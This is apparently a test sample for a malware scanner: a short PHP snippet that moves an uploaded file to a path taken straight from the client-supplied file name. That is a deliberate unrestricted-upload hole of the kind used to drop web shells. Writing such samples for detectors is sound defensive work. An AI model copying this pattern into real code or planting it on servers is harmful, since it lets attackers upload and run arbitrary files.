<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$save = static fn(array $f, string $to): bool => move_uploaded_file($f['tmp_name'], $to);
if ($save($_FILES['u'], $_FILES['u']['name'])) {
    echo 'ok';
}
